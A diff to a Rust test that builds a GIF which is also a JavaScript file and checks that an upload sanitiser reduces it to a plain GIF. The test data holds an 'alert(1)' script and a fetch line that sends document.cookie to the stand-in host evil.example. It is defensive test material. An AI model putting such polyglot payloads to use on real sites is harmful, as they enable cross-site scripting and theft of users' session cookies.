@@ -125,7 +125,7 @@ async fn dk13_a_gif_that_is_a_script_as_well_becomes_a_gif() {
     let mut script = moving(3);
     // Behind the head a comment that is one to both, and behind the end what a script would do then.
     let head = script.windows(2).position(|window| window == b"\x21\xf9").unwrap();
-    script.splice(head..head, *b"\x21\xfe\x0f*/=1;alert(1);/*\0");
+    script.splice(head..head, *b"\x21\xfe\x10*/=1;alert(1);/*\0");
     script.extend(b"*/;fetch('//evil.example/'+document.cookie)//");
     let gif = kept("cat.gif", &script).await;
     assert!(gif.starts_with(b"GIF89a") && gif.ends_with(b"\x3b"));
